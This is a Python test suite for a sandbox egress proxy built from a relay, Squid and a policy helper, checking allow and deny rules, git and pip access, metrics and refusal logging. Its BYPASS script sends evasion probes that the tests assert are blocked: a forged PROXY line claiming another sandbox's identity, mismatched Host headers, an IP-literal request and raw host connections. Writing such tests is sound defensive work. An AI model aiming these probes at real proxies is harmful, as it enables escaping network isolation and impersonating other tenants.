"""Sandbox egress end to end (docs/EGRESS.md): a process in a real Docker
sandbox (network none) -> the agent on 127.0.0.1:3128 -> the egress socket
-> sandbox-egress-relay (PROXY v1 line with the sandbox id) -> real Squid ->
sandbox-egress-acl (policy in Redis) -> upstreams of the test on 127.0.0.1.

Names are resolved by Squid through a DNS server of the test's own (dnslib:
on port 53 of a spare 127.53.x.y, the only nameserver of each test's Squid,
no hosts file), which records every query: allowed.test, denied.test,
api.wild.test, loop.test and other.test are all 127.0.0.1, every other name
NXDOMAIN. Every test ends checking that no reverse lookup (a PTR of the
sandbox's identity address) reached it. Squid runs with
EGRESS_ALLOW_LOOPBACK=1 (else nothing here could be reached), except in the
cases that check the loopback refusal.
The base image has python3 and git but no curl: clients are python's urllib.
"""

import glob
import http.server
import json
import os
import shutil
import signal
import socket
import ssl
import subprocess
import tempfile
import threading
import time

import pytest

from brokerlib import BUILD_DIR, free_port, http_request, wait_until
from dnslib import CountingResolver
from sandboxlib import docker_broker, require_docker  # noqa: F401

require_docker()

ROOT = os.path.dirname(os.path.dirname(os.path.dirname(os.path.abspath(__file__))))

NAMES = ["allowed.test", "denied.test", "api.wild.test", "loop.test", "other.test"]

if not shutil.which("squid") and not os.path.exists("/usr/sbin/squid"):
    pytest.skip("Debian squid is not installed", allow_module_level=True)


REPO = {}  # "dir": a dumb-HTTP git repository served under /repo.git/
SEEN = []  # every path the upstreams were asked for
INDEX = {}  # "wheel": (file name, bytes) of the package served by the index under /simple/
PIP_WHEEL = "/usr/share/python-wheels"  # Debian's python3-pip-whl (python3-venv needs it)


class Handler(http.server.BaseHTTPRequestHandler):
    def do_GET(self):
        SEEN.append(self.path)
        if self.path.startswith("/simple/") and INDEX.get("wheel"):
            name, data = INDEX["wheel"]
            if self.path.rstrip("/") != "/simple/egresstestpkg":
                self.send_error(404)
                return
            body = ('<html><body><a href="/files/%s">%s</a></body></html>' % (name, name)).encode()
            self.send_response(200)
            self.send_header("Content-Type", "text/html")
            self.send_header("Content-Length", str(len(body)))
            self.end_headers()
            self.wfile.write(body)
            return
        if self.path.startswith("/files/") and INDEX.get("wheel"):
            name, data = INDEX["wheel"]
            if self.path != "/files/" + name:
                self.send_error(404)
                return
            self.send_response(200)
            self.send_header("Content-Length", str(len(data)))
            self.end_headers()
            self.wfile.write(data)
            return
        if self.path.startswith("/repo.git/") and REPO.get("dir"):
            rel = os.path.normpath(self.path.split("?")[0][len("/repo.git/"):])
            f = os.path.join(REPO["dir"], rel)
            if rel.startswith("..") or not os.path.isfile(f):
                self.send_error(404)
                return
            data = open(f, "rb").read()
            self.send_response(200)
            self.send_header("Content-Length", str(len(data)))
            self.end_headers()
            self.wfile.write(data)
            return
        body = ("hello %s %s" % (self.headers.get("Host"), self.path)).encode()
        self.send_response(200)
        self.send_header("Content-Length", str(len(body)))
        self.end_headers()
        self.wfile.write(body)

    def log_message(self, *a):
        pass


def serve(port, ctx=None):
    srv = http.server.ThreadingHTTPServer(("127.0.0.1", port), Handler)
    if ctx:
        srv.socket = ctx.wrap_socket(srv.socket, server_side=True)
    threading.Thread(target=srv.serve_forever, daemon=True).start()
    return srv


def make_ca(d):
    """A test CA and a server certificate for every name, with openssl."""
    def run(*a):
        subprocess.run(a, check=True, capture_output=True, cwd=d)
    run("openssl", "req", "-x509", "-newkey", "rsa:2048", "-nodes", "-days", "2",
        "-subj", "/CN=egress test CA", "-keyout", "ca.key", "-out", "ca.pem")
    run("openssl", "req", "-newkey", "rsa:2048", "-nodes", "-subj", "/CN=allowed.test",
        "-keyout", "srv.key", "-out", "srv.csr")
    with open(os.path.join(d, "ext.cnf"), "w") as f:
        f.write("subjectAltName=" + ",".join("DNS:" + n for n in NAMES) + "\n")
    run("openssl", "x509", "-req", "-in", "srv.csr", "-CA", "ca.pem", "-CAkey", "ca.key",
        "-CAcreateserial", "-days", "2", "-extfile", "ext.cnf", "-out", "srv.pem")


class Squid:
    """Squid (with the project's config) + sandbox-egress-relay, stopped by PID."""

    def __init__(self, d, redis_port, prefix, upstream_ports, allow_loopback=True, vault_key=None,
                 vault_ca_dir=None, upstream_cafile=None):
        """vault_key: a VAULT_KEY_FILE path: also run the Credential Vault
        injector (sandbox-vault-icap, with that key; Squid and its helpers
        never get the key) and configure Squid for it. vault_ca_dir (with
        vault_key): the deployment's egress CA (egress/vault-ca): HTTPS
        injection (ssl_bump of CONNECTs to bound hosts), the upstreams' own
        certificates verified against upstream_cafile and the system store."""
        self.d = d
        self.vault_key = vault_key
        self.icap = None
        self.icap_port = free_port() if vault_key else None
        self.state = os.path.join(d, "squid")
        os.makedirs(self.state, exist_ok=True)
        shutil.chown(self.state, "proxy", "proxy")
        os.chmod(d, 0o755)
        self.port = free_port()
        self.egress_dir = os.path.join(d, "egress")
        os.makedirs(self.egress_dir, exist_ok=True)
        # Squid's only resolver: it sees every name Squid looks up
        self.resolver = CountingResolver({n: "127.0.0.1" for n in NAMES}).start()
        self.env = dict(os.environ)
        self.env.update({
            "EGRESS_SQUID_PORT": str(self.port),
            "EGRESS_STATE_DIR": self.state,
            "EGRESS_ACL_HELPER": os.path.join(BUILD_DIR, "sandbox-egress-acl"),
            "EGRESS_PORTS": ",".join(["80", "443"] + [str(p) for p in upstream_ports]),
            "EGRESS_ALLOW_LOOPBACK": "1" if allow_loopback else "0",
            "EGRESS_HOSTS_FILE": "none",
            "EGRESS_DNS": self.resolver.address,
            "REDIS_HOST": "127.0.0.1",
            "REDIS_PORT": str(redis_port),
            "REDIS_KEY_PREFIX": prefix,
            "LOG_LEVEL": "info",
        })
        if vault_key:
            self.env["EGRESS_VAULT_ICAP_PORT"] = str(self.icap_port)
            self.env["EGRESS_VAULT_ICAP_TOKEN"] = os.urandom(16).hex()
        if vault_ca_dir:
            self.env["EGRESS_VAULT_CA_DIR"] = vault_ca_dir
        if upstream_cafile:
            self.env["EGRESS_VAULT_UPSTREAM_CAFILE"] = upstream_cafile
        self.conf = os.path.join(d, "squid.conf")
        self.write_conf()
        self.squid = None
        self.relay = None

    def write_conf(self, **env):
        """(Re)write squid.conf with egress/squid-config, env updated first;
        a running Squid reads it at its next start."""
        self.env.update(env)
        with open(self.conf, "w") as f:
            subprocess.run([os.path.join(ROOT, "egress", "squid-config")], env=self.env,
                           stdout=f, check=True)

    def start_squid(self):
        self.squid_log = open(os.path.join(self.state, "stderr.log"), "ab")
        # its own service name: Squid's shared memory is named after it (scripts/stack)
        name = "sbsquid%d" % self.port
        for f in glob.glob("/dev/shm/%s-*.shm" % name):
            os.unlink(f)
        self.squid = subprocess.Popen(["squid", "-N", "-n", name, "-f", self.conf], env=self.env,
                                      stdout=self.squid_log, stderr=self.squid_log)

        def listening():
            assert self.squid.poll() is None, open(os.path.join(self.state, "cache.log")).read()
            with socket.socket() as s:
                return s.connect_ex(("127.0.0.1", self.port)) == 0
        wait_until(listening, 30, desc="squid listening")

    def stop_squid(self):
        if self.squid and self.squid.poll() is None:
            self.squid.send_signal(signal.SIGTERM)
            try:
                self.squid.wait(15)
            except subprocess.TimeoutExpired:
                self.squid.kill()
                self.squid.wait()

    def start(self):
        if self.vault_key:
            env = dict(self.env, VAULT_KEY_FILE=self.vault_key)
            self.icap_log = open(os.path.join(self.d, "icap.log"), "ab")
            self.icap = subprocess.Popen(
                [os.path.join(BUILD_DIR, "sandbox-vault-icap"), "--port", str(self.icap_port)],
                env=env, stdout=self.icap_log, stderr=self.icap_log)

            def icap_listening():
                assert self.icap.poll() is None, open(os.path.join(self.d, "icap.log")).read()
                with socket.socket() as s:
                    return s.connect_ex(("127.0.0.1", self.icap_port)) == 0
            wait_until(icap_listening, 30, desc="the vault injector listening")
        self.start_squid()
        self.relay_log = open(os.path.join(self.d, "relay.log"), "ab")
        self.relay = subprocess.Popen(
            [os.path.join(BUILD_DIR, "sandbox-egress-relay"), "--dir", self.egress_dir,
             "--squid-port", str(self.port)], stdout=self.relay_log, stderr=self.relay_log)
        return self

    def stop(self):
        if self.relay and self.relay.poll() is None:
            self.relay.terminate()
            self.relay.wait(10)
        self.stop_squid()
        if self.icap and self.icap.poll() is None:
            self.icap.terminate()  # its connection children end with Squid's connections
            self.icap.wait(10)
        self.resolver.stop()

    def reverse_lookups(self):
        """The reverse (PTR, *.arpa) queries that reached the resolver."""
        return [q for q in self.resolver.queries() if q[1] == "PTR" or q[0].endswith(".arpa")]

    def cache_log(self):
        try:
            return open(os.path.join(self.state, "cache.log"), errors="replace").read()
        except OSError:
            return ""

    def helper_pids(self):
        """The helpers Squid runs (its children, -N: no daemon)."""
        pids = []
        for p in os.listdir("/proc"):
            try:
                with open("/proc/%s/stat" % p) as f:
                    st = f.read()
            except OSError:
                continue
            if int(st.rsplit(")", 1)[1].split()[1]) == self.squid.pid:
                pids.append(int(p))
        return pids

    def stop_squid_and_helpers(self):
        """Stop Squid and wait until its helpers are gone: each flushed its
        counts to Redis and wrote its last log line at its end of input."""
        def alive(pid):
            try:
                with open("/proc/%d/status" % pid) as f:
                    return "zombie" not in f.read()
            except OSError:
                return False
        pids = self.helper_pids()
        self.stop_squid()
        wait_until(lambda: not any(alive(p) for p in pids), 20, desc="squid's helpers gone")

    def access_log(self):
        try:
            return open(os.path.join(self.state, "access.log")).read()
        except OSError:
            return ""


def make_wheel():
    """A minimal pure-Python wheel (PEP 427), the package pip fetches from the test's index."""
    import base64
    import hashlib
    import io
    import zipfile

    files = {
        "egresstestpkg/__init__.py": b"VALUE = 'egress pip works'\n",
        "egresstestpkg-1.0.dist-info/METADATA":
            b"Metadata-Version: 2.1\nName: egresstestpkg\nVersion: 1.0\n",
        "egresstestpkg-1.0.dist-info/WHEEL":
            b"Wheel-Version: 1.0\nGenerator: test\nRoot-Is-Purelib: true\nTag: py3-none-any\n",
    }
    record = ""
    for name, data in files.items():
        digest = base64.urlsafe_b64encode(hashlib.sha256(data).digest()).rstrip(b"=").decode()
        record += "%s,sha256=%s,%d\n" % (name, digest, len(data))
    record += "egresstestpkg-1.0.dist-info/RECORD,,\n"
    files["egresstestpkg-1.0.dist-info/RECORD"] = record.encode()
    buf = io.BytesIO()
    with zipfile.ZipFile(buf, "w", zipfile.ZIP_DEFLATED) as z:
        for name, data in files.items():
            z.writestr(name, data)
    return buf.getvalue()


@pytest.fixture(scope="module")
def upstreams(tmp_path_factory):
    d = str(tmp_path_factory.mktemp("egress-up"))
    make_ca(d)
    ctx = ssl.SSLContext(ssl.PROTOCOL_TLS_SERVER)
    ctx.load_cert_chain(os.path.join(d, "srv.pem"), os.path.join(d, "srv.key"))
    run = lambda *a, cwd=d: subprocess.run(a, check=True, capture_output=True, cwd=cwd)  # noqa: E731
    work = os.path.join(d, "work")
    os.makedirs(work)
    run("git", "init", "-q", cwd=work)
    with open(os.path.join(work, "README"), "w") as f:
        f.write("egress clone works\n")
    run("git", "add", "README", cwd=work)
    run("git", "-c", "user.name=t", "-c", "user.email=t@t", "commit", "-qm", "one", cwd=work)
    run("git", "clone", "-q", "--bare", work, os.path.join(d, "repo.git"))
    run("git", "update-server-info", cwd=os.path.join(d, "repo.git"))
    REPO["dir"] = os.path.join(d, "repo.git")
    INDEX["wheel"] = ("egresstestpkg-1.0-py3-none-any.whl", make_wheel())
    hp, sp = free_port(), free_port()
    a, b = serve(hp), serve(sp, ctx)
    with open(os.path.join(d, "ca.pem")) as f:
        ca = f.read()
    yield {"http": hp, "https": sp, "ca": ca}
    a.shutdown()
    b.shutdown()


@pytest.fixture
def egress(request, docker_broker, upstreams):
    """Factory: egress(allow_loopback=True, **broker_env) -> (sb, squid).
    Its directory is outside pytest's (0700) tmp tree: Squid and the helper
    run as the proxy user. A test marked both_runtimes runs once with the
    default runtime and once under gVisor (SANDBOX_RUNTIME=runsc: the agent
    dials the relay, docs/AGENT.md "Transports")."""
    made = []
    runtime = getattr(request, "param", None)

    def factory(allow_loopback=True, **env):
        if runtime:
            env.setdefault("SANDBOX_RUNTIME", runtime)
        d = tempfile.mkdtemp(prefix="sbegress-", dir="/tmp")
        os.chmod(d, 0o755)
        # the broker first: its prefix names the keys the helper reads
        sb = docker_broker(EGRESS_DIR=os.path.join(d, "egress"), **env)
        sq = Squid(d, sb.b.services.redis_port, sb.b.prefix,
                   [upstreams["http"], upstreams["https"]], allow_loopback)
        made.append(sq)
        sq.start()
        return sb, sq
    yield factory
    for sq in made:
        sq.stop()
        # the client address is the sandbox id: Squid never looks it up
        assert not sq.reverse_lookups(), sq.reverse_lookups()
        # the helper and the relay under SANITIZER=: their reports go to cache.log / relay.log
        for log in (sq.cache_log(), open(os.path.join(sq.d, "relay.log"), errors="replace").read()):
            assert "AddressSanitizer" not in log and "runtime error:" not in log, log[-4000:]
        rep = getattr(request.node, "rep_call", None)
        if rep is not None and rep.failed:
            print("\negress state kept: %s" % sq.d)
        else:
            shutil.rmtree(sq.d, ignore_errors=True)


both_runtimes = pytest.mark.parametrize("egress", [None, "runsc"], ids=["runc", "runsc"],
                                        indirect=True)


def set_policy(sb, sid, default="deny", allow=(), deny=()):
    rules = [{"action": "allow", "target": t} for t in allow] + \
            [{"action": "deny", "target": t} for t in deny]
    pol = json.dumps({"defaultAction": default, "egress": rules})
    sb.b.redis.hset(sb.b.key("sandbox:%s" % sid), "egress_policy", pol)


FETCH = r"""
import sys, urllib.request, ssl
ctx = ssl.create_default_context(cafile="/tmp/ca.pem")
for url in sys.argv[1:]:
    try:
        with urllib.request.urlopen(url, timeout=10, context=ctx) as r:
            print("OK", r.status, r.read().decode()[:80])
    except Exception as e:
        print("FAIL", type(e).__name__, str(e)[:120].replace("\n", " "))
"""


def fetch(sb, lease, *urls):
    """Fetch urls from inside the sandbox through its environment's proxy;
    one 'OK ...' or 'FAIL ...' line per url."""
    r = sb.run(lease, "python3 /tmp/fetch.py " + " ".join(urls))
    assert r["exitCode"] == 0, r
    lines = r["stdout"].splitlines()
    assert len(lines) == len(urls), r
    return lines


def setup_sandbox(sb, upstreams, user="u1", session="s1"):
    lease = sb.acquire(user, session)
    assert sb.write(lease, "/tmp/fetch.py", FETCH.encode()).status == 200
    assert sb.write(lease, "/tmp/ca.pem", upstreams["ca"].encode()).status == 200
    return lease, lease["sandboxId"]


def urls(up, name):
    return ("http://%s:%d/x" % (name, up["http"]), "https://%s:%d/y" % (name, up["https"]))


@both_runtimes
def test_allowed_denied_wildcard_and_runtime_change(egress, upstreams):
    sb, sq = egress()
    lease, sid = setup_sandbox(sb, upstreams)
    # the environment and the mount
    r = sb.run(lease, "env | grep -i _proxy | sort; touch /.sandbox-broker/egress/x; echo rc=$?")
    for k in ("HTTP_PROXY", "HTTPS_PROXY", "http_proxy", "https_proxy"):
        assert "%s=http://127.0.0.1:3128" % k in r["stdout"], r
    assert "NO_PROXY=localhost,127.0.0.1" in r["stdout"], r
    assert "rc=0" not in r["stdout"], "the egress directory must be read-only: %r" % r

    # no policy at all: deny
    assert all(x.startswith("FAIL") for x in fetch(sb, lease, *urls(upstreams, "allowed.test"))), \
        sq.access_log()

    set_policy(sb, sid, allow=["allowed.test", "*.wild.test"])
    time.sleep(1.2)  # the helper caches a policy 1 s (Squid caches no answer)
    got = fetch(sb, lease, *urls(upstreams, "allowed.test"), *urls(upstreams, "denied.test"),
                *urls(upstreams, "api.wild.test"), "http://wild.test:%d/" % upstreams["http"])
    assert got[0].startswith("OK 200 hello allowed.test"), (got, sq.access_log())
    assert got[1].startswith("OK 200 hello allowed.test"), got  # CONNECT + TLS end to end
    assert got[2].startswith("FAIL") and got[3].startswith("FAIL"), got
    assert got[4].startswith("OK 200") and got[5].startswith("OK 200"), got
    assert got[6].startswith("FAIL"), "*.wild.test does not cover wild.test: %r" % got

    # changed at run time: effective within about 1 s (the helper's policy cache)
    set_policy(sb, sid, allow=["denied.test"])
    t0 = time.time()

    def flipped():
        g = fetch(sb, lease, urls(upstreams, "allowed.test")[0], urls(upstreams, "denied.test")[0])
        return g[0].startswith("FAIL") and g[1].startswith("OK")
    wait_until(flipped, 10, interval=0.2, desc="policy change")
    assert time.time() - t0 < 2.5 + 1.5, "took %.1f s" % (time.time() - t0)  # + one fetch

    # metrics
    def counted():
        m = sb.b.redis.hgetall(sb.b.key("metrics"))
        return int(m.get("broker_egress_allowed_total", 0)) > 0 and \
            int(m.get('broker_egress_denied_total{reason="policy"}', 0)) > 0
    wait_until(counted, 5, desc="egress counters in the metrics hash")

    # every decision is logged, a repeat within a second too (Squid caches no answer)
    allowed = decisions(sq, sid, EGRESS_VERDICT="allow", EGRESS_HOST="denied.test")
    assert allowed and all("EGRESS_REASON" not in r for r in allowed), allowed
    n = len(decisions(sq, sid, EGRESS_REASON="policy", EGRESS_HOST="allowed.test"))
    got = fetch(sb, lease, urls(upstreams, "allowed.test")[0], urls(upstreams, "allowed.test")[0])
    assert all(g.startswith("FAIL") for g in got), got
    sq.stop_squid_and_helpers()
    recs = decisions(sq, sid, EGRESS_REASON="policy", EGRESS_HOST="allowed.test")
    assert len(recs) == n + 2, recs
    assert recs[-1]["EGRESS_VERDICT"] == "deny" and recs[-1]["EGRESS_PORT"] == str(upstreams["http"])


@both_runtimes
def test_survives_squid_restart(egress, upstreams):
    sb, sq = egress()
    lease, sid = setup_sandbox(sb, upstreams)
    set_policy(sb, sid, allow=["allowed.test"])
    assert fetch(sb, lease, urls(upstreams, "allowed.test")[1])[0].startswith("OK 200")
    sq.stop_squid()
    assert fetch(sb, lease, urls(upstreams, "allowed.test")[0])[0].startswith("FAIL")
    sq.start_squid()
    got = fetch(sb, lease, *urls(upstreams, "allowed.test"), urls(upstreams, "denied.test")[0])
    assert got[0].startswith("OK 200") and got[1].startswith("OK 200"), got
    assert got[2].startswith("FAIL"), got


BYPASS = r"""
import socket, sys
def talk(data, host="127.0.0.1", port=3128):
    s = socket.create_connection((host, port), timeout=10)
    s.sendall(data)
    out = b""
    try:
        while len(out) < 4096:
            b = s.recv(4096)
            if not b: break
            out += b
            if b"\r\n\r\n" in out: break
    except Exception as e:
        out += b" EXC " + type(e).__name__.encode()
    s.close()
    return out.split(b"\r\n")[0].decode(errors="replace")
hp, sp, sid = int(sys.argv[1]), int(sys.argv[2]), sys.argv[3]
# an IP literal
print("ip", talk(b"GET http://127.0.0.1:%d/ HTTP/1.1\r\nHost: 127.0.0.1:%d\r\n\r\n" % (hp, hp)))
# CONNECT to the allowed name on a port that is not allowed
print("port", talk(b"CONNECT allowed.test:22 HTTP/1.1\r\nHost: allowed.test:22\r\n\r\n"))
# Host header disagreeing with the request URI / the CONNECT target
print("hosturi", talk(b"GET http://denied.test:%d/ HTTP/1.1\r\nHost: allowed.test:%d\r\n\r\n" % (hp, hp)))
print("hostconnect", talk(b"CONNECT denied.test:%d HTTP/1.1\r\nHost: allowed.test:%d\r\n\r\n" % (sp, sp)))
# a forged PROXY line naming another sandbox
fake = ":".join(sid[i:i + 4] for i in range(0, 32, 4))
print("proxy", talk(b"PROXY TCP6 %s ::1 1 3128\r\nGET http://allowed.test:%d/ HTTP/1.1\r\nHost: allowed.test:%d\r\n\r\n" % (fake.encode(), hp, hp)))
# DNS from inside
try:
    print("dns", socket.getaddrinfo("allowed.test", 80))
except Exception as e:
    print("dns FAIL", type(e).__name__)
# raw connections to the host: nothing but lo exists
for host in ("172.17.0.1", "10.0.0.1", "192.168.0.1"):
    try:
        socket.create_connection((host, hp), timeout=3)
        print("raw", host, "CONNECTED")
    except Exception as e:
        print("raw", host, "FAIL", type(e).__name__)
# a listener of ours on 127.0.0.1:<upstream port> is the sandbox's own lo, not the host's
try:
    socket.create_connection(("127.0.0.1", hp), timeout=3)
    print("lo CONNECTED")
except Exception as e:
    print("lo FAIL", type(e).__name__)
"""


@both_runtimes
def test_bypass_attempts_fail(egress, upstreams):
    sb, sq = egress()
    victim_sb_lease, victim = setup_sandbox(sb, upstreams, "u2", "s2")
    lease, sid = setup_sandbox(sb, upstreams)
    set_policy(sb, sid, allow=["allowed.test"])
    # the victim may reach denied.test: a forged identity would get it
    set_policy(sb, victim, allow=["allowed.test", "denied.test"])
    assert sb.write(lease, "/tmp/bypass.py", BYPASS.encode()).status == 200
    r = sb.run(lease, "python3 /tmp/bypass.py %d %d %s" % (upstreams["http"], upstreams["https"],
                                                             victim))
    out = dict(line.split(" ", 1) for line in r["stdout"].splitlines() if " " in line)
    assert out["ip"].startswith("HTTP/1.1 403"), r
    assert out["port"].startswith("HTTP/1.1 403"), r
    assert not out["hosturi"].startswith("HTTP/1.1 200"), r
    assert not out["hostconnect"].startswith("HTTP/1.1 200"), r
    assert not out["proxy"].startswith("HTTP/1.1 200"), r
    assert out["dns"].startswith("FAIL"), r
    assert r["stdout"].count("raw ") == 3 and "CONNECTED" not in r["stdout"], r
    # the allowed path still works from the same sandbox afterwards
    assert fetch(sb, lease, urls(upstreams, "allowed.test")[0])[0].startswith("OK 200")


@both_runtimes
def test_two_sandboxes_with_different_policies(egress, upstreams):
    sb, sq = egress()
    la, a = setup_sandbox(sb, upstreams, "u1", "s1")
    lb, b = setup_sandbox(sb, upstreams, "u2", "s2")
    set_policy(sb, a, allow=["allowed.test"])
    set_policy(sb, b, allow=["denied.test"])
    ga = fetch(sb, la, urls(upstreams, "allowed.test")[1], urls(upstreams, "denied.test")[1])
    gb = fetch(sb, lb, urls(upstreams, "allowed.test")[1], urls(upstreams, "denied.test")[1])
    assert ga[0].startswith("OK") and ga[1].startswith("FAIL"), ga
    assert gb[0].startswith("FAIL") and gb[1].startswith("OK"), gb


@both_runtimes
def test_loopback_refused_unless_allowed(egress, upstreams):
    sb, sq = egress(allow_loopback=False)
    lease, sid = setup_sandbox(sb, upstreams)
    set_policy(sb, sid, default="allow")
    got = fetch(sb, lease, *urls(upstreams, "allowed.test"), *urls(upstreams, "loop.test"))
    assert all(g.startswith("FAIL") for g in got), got


@both_runtimes
def test_git_clone_over_https(egress, upstreams, tmp_path):
    """git (in the base image) clones through the proxy (CONNECT + TLS with
    the test's CA) from a dumb-HTTP repository served by the test's HTTPS
    upstream; the same repository under a denied name fails."""
    sb, sq = egress()
    lease, sid = setup_sandbox(sb, upstreams)
    set_policy(sb, sid, allow=["allowed.test"])
    r = sb.run(lease, "GIT_SSL_CAINFO=/tmp/ca.pem git clone -q https://allowed.test:%d/repo.git "
               "/tmp/r 2>&1; echo rc=$?; cat /tmp/r/README" % upstreams["https"])
    assert "rc=0" in r["stdout"] and "egress clone works" in r["stdout"], r
    r = sb.run(lease, "GIT_SSL_CAINFO=/tmp/ca.pem git clone -q https://denied.test:%d/repo.git "
               "/tmp/r2 2>&1; echo rc=$?" % upstreams["https"])
    assert "rc=0" not in r["stdout"], r


def test_sandbox_removal_removes_its_egress_directory(egress, upstreams):
    sb, sq = egress()
    lease, sid = setup_sandbox(sb, upstreams)
    d = os.path.join(sq.egress_dir, sid)
    wait_until(lambda: os.path.exists(os.path.join(d, "egress.sock")), 5, desc="relay socket")
    st = os.stat(d)
    assert oct(st.st_mode & 0o777) == "0o755", oct(st.st_mode)
    sb.release("u1", "s1", reason="deleted")
    wait_until(lambda: not os.path.exists(d), 30, desc="egress directory removed")


@both_runtimes
def test_pip_download_from_a_local_index(egress, upstreams):
    """pip (Debian's pip wheel, run from the wheel: the base image has no pip)
    downloads a package from the test's index through the proxy under an
    allowed name; the same index under a denied name fails."""
    wheels = [f for f in os.listdir(PIP_WHEEL) if f.startswith("pip-")] if os.path.isdir(PIP_WHEEL) else []
    if not wheels:
        pytest.skip("Debian's python3-pip-whl is not installed")
    sb, sq = egress()
    lease, sid = setup_sandbox(sb, upstreams)
    with open(os.path.join(PIP_WHEEL, wheels[0]), "rb") as f:
        assert sb.write(lease, "/tmp/pip.whl", f.read()).status == 200
    set_policy(sb, sid, allow=["allowed.test"])
    pip = ("python3 /tmp/pip.whl/pip download --no-cache-dir --disable-pip-version-check "
           "--retries 0 --timeout 10 --no-deps -d /tmp/dl%s --trusted-host %s --index-url http://%s:%d/simple/ "
           "egresstestpkg")
    r = sb.run(lease, pip % ("1", "allowed.test", "allowed.test", upstreams["http"]) + " 2>&1; echo rc=$?; "
               "cd /tmp/dl1 && python3 -c 'import sys; sys.path.insert(0, \"egresstestpkg-1.0-py3-none-any.whl\"); "
               "import egresstestpkg; print(egresstestpkg.VALUE)'")
    assert "rc=0" in r["stdout"] and "egress pip works" in r["stdout"], r
    r = sb.run(lease, pip % ("2", "denied.test", "denied.test", upstreams["http"]) + " 2>&1; echo rc=$?; ls /tmp/dl2")
    assert "rc=0" not in r["stdout"] and ".whl" not in r["stdout"], r


def test_policy_survives_stop_and_start(egress, upstreams):
    """The policy lives in the sandbox record: a stopped and started sandbox
    (a new agent, a new relay socket) keeps reaching what it was allowed."""
    sb, sq = egress()
    lease, sid = setup_sandbox(sb, upstreams)
    set_policy(sb, sid, allow=["allowed.test"])
    assert fetch(sb, lease, urls(upstreams, "allowed.test")[1])[0].startswith("OK 200")
    assert sb.stop(lease).status in (200, 202, 204)
    sb.wait_record_state(sid, "Stopped")
    assert sb.start(lease).status in (200, 202, 204)
    sb.wait_record_state(sid, "Running")
    got = fetch(sb, lease, *urls(upstreams, "allowed.test"), urls(upstreams, "denied.test")[0])
    assert got[0].startswith("OK 200") and got[1].startswith("OK 200"), (got, sq.access_log())
    assert got[2].startswith("FAIL"), got


def decisions(sq, sid, **fields):
    """The helper's decision records of sandbox sid (stderr form of the
    journald record: the same fields, in Squid's cache.log), as dicts of their
    KEY=value fields, those matching fields only."""
    out = []
    for line in sq.cache_log().splitlines():
        if "sandbox-egress-acl[" not in line or " SANDBOX_ID=%s" % sid not in line:
            continue
        kv = dict(w.split("=", 1) for w in line.split() if "=" in w and w.split("=", 1)[0].isupper())
        if "EGRESS_VERDICT" in kv and all(kv.get(k) == v for k, v in fields.items()):
            out.append(kv)
    return out


def denied_counts(sb):
    """broker_egress_denied_total by reason, from GET /metrics."""
    b = sb.b
    r = http_request(b.port, "GET", "/metrics", headers=b.auth_headers(b.config["METRICS_TOKEN"]))
    assert r.status == 200, r
    out = {}
    for line in r.raw.decode().splitlines():
        if line.startswith('broker_egress_denied_total{reason="'):
            name, value = line.rsplit(" ", 1)
            out[name.split('"')[1]] = int(float(value))
    return out


REFUSE = r"""
import socket, sys
def talk(data):
    s = socket.create_connection(("127.0.0.1", 3128), timeout=20)
    s.sendall(data)
    out = b""
    while b"\r\n\r\n" not in out and len(out) < 4096:
        b = s.recv(4096)
        if not b: break
        out += b
    s.close()
    return out.split(b"\r\n")[0].decode(errors="replace")
hp, tag = int(sys.argv[1]), sys.argv[2].encode()
print("port", talk(b"CONNECT allowed.test:22 HTTP/1.1\r\nHost: allowed.test:22\r\n\r\n"))
print("address", talk(b"GET http://loop.test:%d/%s HTTP/1.1\r\nHost: loop.test:%d\r\n\r\n" % (hp, tag, hp)))
"""


def refuse(sb, lease, upstreams, tag):
    """A CONNECT to a port not allowed and a GET of a name resolving to
    127.0.0.1 (loopback not allowed), from inside the sandbox: their status lines."""
    r = sb.run(lease, "python3 /tmp/refuse.py %d %s" % (upstreams["http"], tag))
    out = dict(line.split(" ", 1) for line in r["stdout"].splitlines() if " " in line)
    assert set(out) == {"port", "address"}, r
    return out


def test_squid_refusals_are_logged_once_and_counted(egress, upstreams):
    """Squid's own refusals (port, address) reach the helper's --record
    role: one record each with the sandbox, host, port, verdict and reason,
    and broker_egress_denied_total{reason=} up by exactly one each; the
    requests are still refused and never reach an upstream. The address
    refusal is made on the name's resolved address (the resolver was asked
    for it, after the policy said yes)."""
    sb, sq = egress(allow_loopback=False)
    lease, sid = setup_sandbox(sb, upstreams)
    set_policy(sb, sid, default="allow")  # only Squid's own refusals apply
    assert sb.write(lease, "/tmp/refuse.py", REFUSE.encode()).status == 200
    before = denied_counts(sb)
    assert set(before) == {"policy", "port", "address"}, before  # shown as 0 before any

    got = refuse(sb, lease, upstreams, "refusal-probe")
    assert got["port"].startswith("HTTP/1.1 403"), got
    assert got["address"].startswith("HTTP/1.1 403"), got
    assert "/refusal-probe" not in SEEN

    want = {"port": {"EGRESS_HOST": "allowed.test", "EGRESS_PORT": "22"},
            "address": {"EGRESS_HOST": "loop.test", "EGRESS_PORT": str(upstreams["http"])}}
    wait_until(lambda: all(decisions(sq, sid, EGRESS_REASON=r) for r in want), 10,
               desc="refusal records")
    # every helper read its end of input: counts flushed, last lines written
    sq.stop_squid_and_helpers()
    for reason, fields in want.items():
        recs = decisions(sq, sid, EGRESS_REASON=reason)
        assert len(recs) == 1, (reason, recs, sq.cache_log()[-3000:])
        assert recs[0]["EGRESS_VERDICT"] == "deny", recs
        for k, v in fields.items():
            assert recs[0][k] == v, (k, recs)
    # no other record of this sandbox: the policy's yes to loop.test is not a
    # verdict (the address check then refused it), and the port refusal came
    # before the policy was asked
    assert len(decisions(sq, sid)) == 2, decisions(sq, sid)
    assert ("loop.test", "A") in sq.resolver.queries(), sq.resolver.queries()
    assert not sq.resolver.names_asked("allowed.test"), sq.resolver.queries()
    after = denied_counts(sb)
    assert after["port"] == before["port"] + 1, (before, after)
    assert after["address"] == before["address"] + 1, (before, after)
    assert after["policy"] == before["policy"], (before, after)


def test_squid_refusals_do_not_depend_on_the_logger(egress, upstreams):
    """Whatever the recorder (the helper's --record role) answers on a deny
    line (ERR: no match; BH: helper failure), the request is refused: each
    deny line that asks it is followed by the same line without it
    (egress/squid.conf.in)."""
    sb, sq = egress(allow_loopback=False)
    lease, sid = setup_sandbox(sb, upstreams)
    set_policy(sb, sid, default="allow")
    assert sb.write(lease, "/tmp/refuse.py", REFUSE.encode()).status == 200
    answer = os.path.join(sq.d, "answer")
    asked = os.path.join(sq.d, "asked")  # the lines the logger got
    wrapper = os.path.join(sq.d, "acl-wrapper")
    with open(wrapper, "w") as f:
        f.write("#!/bin/sh\n"
